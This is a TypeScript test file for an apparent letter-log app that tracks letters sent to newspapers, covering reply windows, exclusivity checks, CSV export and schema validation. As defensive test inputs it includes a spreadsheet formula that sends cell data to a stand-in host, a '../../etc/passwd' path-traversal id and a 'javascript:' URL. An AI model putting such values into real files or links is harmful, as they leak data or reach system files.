/**
 * The letter log's pure rules (core/log): the reply window, the exclusivity
 * warning (same letter, near copy by the compare's word diff, closed after its
 * window or an outcome), filters, the summary, the CSV (quoting, Chinese, the
 * formula guard) and the Chinese note draft; and the sending schema's limits.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { editorDoc, paragraphNode, textNode } from '../../core/editorDoc';
import { letterContent } from '../../core/history/version';
import { createIntl } from '@formatjs/intl';
import zhCN from '../../core/i18n/catalogs/zh-CN.json';
import { inEnglish } from '../../core/i18n/wording';
import { newBlankLetter } from '../../core/letter';
import { logCsvRows, summaryCsvRows, type Say } from '../../core/log/csv';
import { csvText } from '../../electron/services/log/csvText';
import { exclusiveConflicts } from '../../core/log/exclusive';
import { filterSendings } from '../../core/log/filter';
import { englishSimilarity } from '../../core/log/nearCopy';
import { DEFAULT_NOTE_TEMPLATE_ZH, draftNoteZh } from '../../core/log/noteDraft';
import { comparePublished } from '../../core/log/publishedText';
import { answerBy, isOpen, isOverdue } from '../../core/log/replyWindow';
import type { Outcome, Sending } from '../../core/log/sending';
import { summarise } from '../../core/log/summary';
import {
  outcomeSchema,
  parseSendingFile,
  sendingFile,
  sendingFilterSchema,
} from '../../core/schemas/sending';

let serial = 0;
/** A sending, sent at noon UTC so its calendar day is the same in any office from UTC−11 to UTC+11. */
function sending(overrides: Partial<Sending> = {}): Sending {
  serial++;
  return {
    id: `20260503T120000${String(serial).padStart(3, '0')}-0000abcd`,
    revision: 1,
    letterId: 'letter-a',
    versionId: '20260503T115900000-0000abcd',
    title: 'On the ports',
    publicationId: 'financial-times',
    publication: 'Financial Times',
    publicationZh: '金融时报',
    to: 'letters.editor@ft.com',
    sentAt: '2026-05-03T12:00:00.000Z',
    channel: 'email',
    exclusive: true,
    answerBy: '2026-05-17',
    outcome: { kind: 'awaiting' },
    outcomeAt: null,
    noteZh: '',
    ...overrides,
  };
}

const published = (date: string, headline = 'Ports are open', extent: 'full' | 'part' = 'full'): Outcome => ({
  kind: 'published',
  date,
  headline,
  url: '',
  extent,
  publishedText: '',
});

describe('the reply window', () => {
  it('counts calendar days from the day sent, across month ends', () => {
    expect(answerBy('2026-05-03T12:00:00.000Z', 14)).toBe('2026-05-17');
    expect(answerBy('2026-01-25T12:00:00.000Z', 14)).toBe('2026-02-08');
    expect(answerBy('2028-02-20T12:00:00.000Z', 10)).toBe('2028-03-01'); // a leap year
    expect(answerBy('2026-05-03T12:00:00.000Z', null)).toBeNull();
  });

  it('is overdue only after the last day, and only while awaiting', () => {
    const open = sending();
    expect(isOverdue(open, '2026-05-17')).toBe(false);
    expect(isOpen(open, '2026-05-17')).toBe(true);
    expect(isOverdue(open, '2026-05-18')).toBe(true);
    expect(isOpen(open, '2026-05-18')).toBe(false);
    expect(isOverdue(sending({ outcome: published('2026-05-10') }), '2026-06-01')).toBe(false);
    expect(isOverdue(sending({ answerBy: null }), '2030-01-01')).toBe(false);
  });
});

describe('the exclusivity warning', () => {
  const toGuardian = {
    letterId: 'letter-a',
    publicationId: 'the-guardian',
    publication: 'The Guardian',
    day: '2026-05-10',
  };
  const noText = () => 0;

  it('warns when the same letter goes to another paper while an exclusive submission is open', () => {
    const open = sending();
    expect(exclusiveConflicts(toGuardian, [open], noText)).toEqual([
      { sending: open, reason: 'sameLetter', similarity: 1 },
    ]);
  });

  it('does not warn for the same paper, a paper without exclusivity, or a closed submission', () => {
    expect(
      exclusiveConflicts({ ...toGuardian, publicationId: 'financial-times' }, [sending()], noText),
    ).toEqual([]);
    expect(exclusiveConflicts(toGuardian, [sending({ exclusive: false })], noText)).toEqual([]);
    // Past its window: the paper's own rule is that it will not run.
    expect(exclusiveConflicts({ ...toGuardian, day: '2026-05-18' }, [sending()], noText)).toEqual([]);
    expect(
      exclusiveConflicts(
        toGuardian,
        [sending({ outcome: { kind: 'rejected', date: '2026-05-05', note: '' } })],
        noText,
      ),
    ).toEqual([]);
    expect(
      exclusiveConflicts(
        toGuardian,
        [sending({ outcome: { kind: 'withdrawn', date: '2026-05-05', note: '' } })],
        noText,
      ),
    ).toEqual([]);
  });

  it('tells papers without a profile apart by name', () => {
    const byName = sending({ publicationId: null, publication: 'Le Monde' });
    const planned = { ...toGuardian, publicationId: null };
    expect(exclusiveConflicts({ ...planned, publication: ' le monde ' }, [byName], noText)).toEqual([]);
    expect(exclusiveConflicts({ ...planned, publication: 'Die Zeit' }, [byName], noText)).toHaveLength(1);
  });

  it('warns for another letter that shares 80% or more of its English words', () => {
    const other = sending({ letterId: 'letter-b' });
    const planned = { ...toGuardian, letterId: 'letter-a' };
    expect(exclusiveConflicts(planned, [other], () => 0.85)).toEqual([
      { sending: other, reason: 'nearCopy', similarity: 0.85 },
    ]);
    expect(exclusiveConflicts(planned, [other], () => 0.8)).toHaveLength(1);
    expect(exclusiveConflicts(planned, [other], () => 0.79)).toEqual([]);
  });

  it('measures near copies with the compare’s word diff on the English letter', () => {
    const withBody = (text: string) => {
      const letter = newBlankLetter({ id: 'x', now: new Date('2026-05-01T00:00:00Z') });
      return letterContent({ ...letter, body: editorDoc([paragraphNode([textNode(text)])]) });
    };
    const ten = 'The ports of Piraeus are open to every investor on equal terms';
    expect(englishSimilarity(withBody(ten), withBody(ten))).toBe(1);
    // One word of twelve changed: a near copy.
    const oneChanged = englishSimilarity(withBody(ten), withBody(ten.replace('every', 'any')));
    expect(oneChanged).toBeCloseTo(11 / 12, 5);
    // Half rewritten: not.
    expect(
      englishSimilarity(withBody(ten), withBody('The ports of Piraeus welcome trade from all nations today')),
    ).toBeLessThan(0.8);
    // The Chinese preface does not count: the paper prints the English.
    expect(englishSimilarity(withBody(''), withBody(''))).toBe(0);
  });
});

describe('filters and the summary', () => {
  const rows = [
    sending({
      sentAt: '2026-04-02T12:00:00.000Z',
      answerBy: '2026-04-16',
      outcome: published('2026-04-05', 'A fair deal for ports'),
    }),
    sending({
      sentAt: '2026-04-20T12:00:00.000Z',
      publicationId: 'the-guardian',
      publication: 'The Guardian',
      publicationZh: '卫报',
      answerBy: null,
      outcome: { kind: 'rejected', date: '2026-04-22', note: '' },
    }),
    sending({ sentAt: '2026-05-03T12:00:00.000Z', title: 'Trade and trust', answerBy: '2026-05-17' }),
    sending({
      sentAt: '2026-05-04T12:00:00.000Z',
      publicationId: 'the-guardian',
      publication: 'The Guardian',
      publicationZh: '卫报',
      answerBy: '2026-05-05',
    }),
    sending({
      sentAt: '2026-05-06T12:00:00.000Z',
      outcome: { kind: 'withdrawn', date: '2026-05-07', note: '' },
    }),
  ];
  const today = '2026-05-10';

  it('filters by outcome, overdue, publication, period and text, newest first', () => {
    const titles = (filter: object) =>
      filterSendings(rows, sendingFilterSchema.parse(filter), today).map((s) => s.sentAt.slice(0, 10));
    expect(titles({})).toEqual(['2026-05-06', '2026-05-04', '2026-05-03', '2026-04-20', '2026-04-02']);
    expect(titles({ outcomes: ['published', 'rejected'] })).toEqual(['2026-04-20', '2026-04-02']);
    expect(titles({ overdue: true })).toEqual(['2026-05-04']);
    expect(titles({ publication: 'the guardian' })).toEqual(['2026-05-04', '2026-04-20']);
    expect(titles({ from: '2026-04-20', to: '2026-05-03' })).toEqual(['2026-05-03', '2026-04-20']);
    expect(titles({ text: 'FAIR deal' })).toEqual(['2026-04-02']); // the headline
    expect(titles({ text: '卫报' })).toEqual(['2026-05-04', '2026-04-20']); // the Chinese name
    expect(titles({ text: 'trust' })).toEqual(['2026-05-03']); // the title
  });

  it('counts per publication and per month, an awaiting letter past its window as no reply', () => {
    const summary = summarise(rows, today);
    expect(summary.total).toEqual({
      sent: 5,
      awaiting: 1,
      published: 1,
      rejected: 1,
      noReply: 1,
      withdrawn: 1,
    });
    expect(summary.byPublication.map((p) => [p.publication, p.counts.sent, p.counts.published])).toEqual([
      ['Financial Times', 3, 1],
      ['The Guardian', 2, 0],
    ]);
    expect(summary.byMonth).toEqual([
      {
        month: '2026-04',
        counts: { sent: 2, awaiting: 0, published: 1, rejected: 1, noReply: 0, withdrawn: 0 },
      },
      {
        month: '2026-05',
        counts: { sent: 3, awaiting: 1, published: 0, rejected: 0, noReply: 1, withdrawn: 1 },
      },
    ]);
  });
});

describe('the CSV', () => {
  const english: Say = (message, values) => inEnglish(message, values);
  const chineseIntl = createIntl({ locale: 'zh-CN', messages: zhCN });
  const chinese: Say = (message, values) => chineseIntl.formatMessage(message, values);
  const logCsv = (rows: Sending[], today: string, say: Say) => csvText(logCsvRows(rows, today, say));
  const summaryCsv = (...args: Parameters<typeof summaryCsvRows>) => csvText(summaryCsvRows(...args));
  const parse = (text: string) => {
    expect(text.startsWith('\uFEFF')).toBe(true); // so Excel reads UTF-8
    return Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
  };

  it('quotes commas, quotes and line breaks, and reads back the same', () => {
    const tricky = sending({
      title: 'Ports, "open" and\nfree',
      outcome: published('2026-05-05', 'Yes, open'),
    });
    const rows = parse(logCsv([tricky], '2026-05-10', english));
    expect(rows[0].slice(0, 3)).toEqual(['Sent', 'Letter', 'Publication']);
    expect(rows[1][1]).toBe('Ports, "open" and\nfree');
    expect(rows[1][8]).toBe('Published in full');
    expect(rows[1][10]).toBe('Yes, open');
  });

  it('heads the columns in Chinese for a Chinese export, and keeps Chinese text', () => {
    const rows = parse(logCsv([sending({ noteZh: '《金融时报》刊登来信。' })], '2026-05-10', chinese));
    expect(rows[0].slice(0, 4)).toEqual(['发送时间', '信函', '媒体', '媒体（中文）']);
    expect(rows[1][3]).toBe('金融时报');
    expect(rows[1][8]).toBe('等待回复');
    expect(rows[1][13]).toBe('《金融时报》刊登来信。');
  });

  it('defuses cells a spreadsheet would run as formulas', () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '=1\n2'];
    const rows = parse(
      logCsv(
        hostile.map((headline) => sending({ outcome: published('2026-05-05', headline) })),
        '2026-05-10',
        english,
      ),
    );
    expect(rows.slice(1).map((row) => row[10])).toEqual(hostile.map((text) => `'${text}`));
    // Ordinary text and numbers are left alone.
    const summary = parse(summaryCsv(summarise([sending()], '2026-05-10'), english, false));
    expect(summary[1]).toEqual(['Total', '', '1', '1', '0', '0', '0', '0']);
  });

  it('gives the summary per publication and per month, Chinese names in a Chinese export', () => {
    const rows = [
      sending(),
      sending({ sentAt: '2026-06-01T12:00:00.000Z', outcome: published('2026-06-03') }),
    ];
    const zh = parse(summaryCsv(summarise(rows, '2026-06-10'), chinese, true));
    expect(zh[0]).toEqual([
      '分类',
      '媒体或月份',
      '已发送',
      '等待回复',
      '已刊登',
      '未采用',
      '无回复',
      '已撤回',
    ]);
    expect(zh[2]).toEqual(['按媒体', '金融时报', '2', '0', '1', '0', '1', '0']);
    expect(zh.slice(3).map((row) => row.slice(0, 3))).toEqual([
      ['按月', '2026-05', '1'],
      ['按月', '2026-06', '1'],
    ]);
  });
});

describe('the published text', () => {
  it('marks what the paper cut and changed against the English letter sent', () => {
    const letter = newBlankLetter({ id: 'x', now: new Date('2026-05-01T00:00:00Z') });
    const sent = letterContent({
      ...letter,
      body: editorDoc([
        paragraphNode([textNode('The ports are open to every investor.')]),
        paragraphNode([textNode('We welcome scrutiny of the figures.')]),
      ]),
    });
    const printed = 'The ports are open to any investor.\n\n';
    const result = comparePublished(sent, printed);
    expect(result.deleted).toBe(7); // "every" and the whole cut paragraph (6 words)
    expect(result.inserted).toBe(1); // "any"
    expect(result.blocks.map((block) => block.change)).toEqual(['changed', 'deleted']);
    expect(
      comparePublished(sent, 'The ports are open to every investor.\nWe welcome scrutiny of the figures.'),
    ).toMatchObject({
      inserted: 0,
      deleted: 0,
    });
  });
});

describe('the Chinese note', () => {
  it('is drafted from the default template for a published letter', () => {
    const sent = sending({ outcome: published('2026-05-05', 'Ports are open to all') });
    expect(draftNoteZh(DEFAULT_NOTE_TEMPLATE_ZH, sent, '王大使')).toBe(
      '《金融时报》于2026年5月5日刊登我馆王大使署名来信，题为“Ports are open to all”。',
    );
  });

  it('follows the office’s template, leaves unknown placeholders, falls back to the English name', () => {
    const sent = sending({ publicationZh: '', outcome: published('2026-12-01', 'Trade', 'part') });
    expect(draftNoteZh('{publicationZh}（{date}）：{headline} {nonsense}', sent, '')).toBe(
      'Financial Times（2026年12月1日）：Trade {nonsense}',
    );
    expect(draftNoteZh(DEFAULT_NOTE_TEMPLATE_ZH, sending(), '王大使')).toBe('');
  });
});

describe('the sending schema', () => {
  it('round-trips a stored file and refuses damage', () => {
    const stored = sending({ outcome: published('2026-05-05') });
    expect(parseSendingFile(JSON.parse(JSON.stringify(sendingFile(stored))))).toEqual(stored);
    const file = sendingFile(stored);
    expect(() => parseSendingFile({ ...file, extra: 1 })).toThrow(); // strict
    expect(() => parseSendingFile({ ...file, answerBy: '2026-02-30' })).toThrow(/no such date/);
    expect(() => parseSendingFile({ ...file, id: '../../etc/passwd' })).toThrow(/sending id/);
    expect(() => parseSendingFile({ ...file, title: 'x'.repeat(1001) })).toThrow();
    expect(() => parseSendingFile({ ...file, schemaVersion: 2 })).toThrow(/newer version/);
  });

  it('checks an outcome by its kind', () => {
    expect(outcomeSchema.safeParse({ kind: 'rejected', date: '2026-05-05', note: '' }).success).toBe(true);
    expect(outcomeSchema.safeParse({ kind: 'rejected', note: '' }).success).toBe(false);
    expect(outcomeSchema.safeParse({ ...published('2026-05-05'), url: 'javascript:alert(1)' }).success).toBe(
      false,
    );
    expect(outcomeSchema.safeParse({ kind: 'awaiting', date: '2026-05-05' }).success).toBe(false);
  });
});
